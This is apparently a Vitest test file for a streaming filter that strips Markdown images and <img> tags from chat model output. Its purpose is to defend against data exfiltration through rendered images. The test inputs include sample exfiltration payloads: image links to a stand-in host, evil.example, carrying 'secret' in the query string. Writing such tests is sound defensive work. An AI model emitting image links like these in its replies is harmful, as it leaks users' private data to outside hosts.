import { describe, expect, it } from 'vitest';
import { ImageStripper } from '@/lib/chat/strip-images';

const run = (deltas: string[]) => {
  const s = new ImageStripper();
  return deltas.map((d) => s.push(d)).join('') + s.flush();
};

describe('ImageStripper', () => {
  it('removes Markdown images and <img> tags, even split across deltas', () => {
    expect(run(['See ![x](https://evil.example/?q=secret) here.'])).toBe('See  here.');
    expect(
      run([
        'See !',
        '[x',
        '](https://evil',
        '.example/?q=1',
        ') here <im',
        'g src="https://evil.example/a.png"',
        '> end',
      ]),
    ).toBe('See  here  end');
  });

  it('keeps ordinary text, links, exclamations and citations', () => {
    expect(run(['Wow! It works [1]. ', 'See [the docs](https://example.com) and a < b!'])).toBe(
      'Wow! It works [1]. See [the docs](https://example.com) and a < b!',
    );
    expect(run(['Done!'])).toBe('Done!');
    expect(run(['Done! [', '2]'])).toBe('Done! [2]');
  });
});
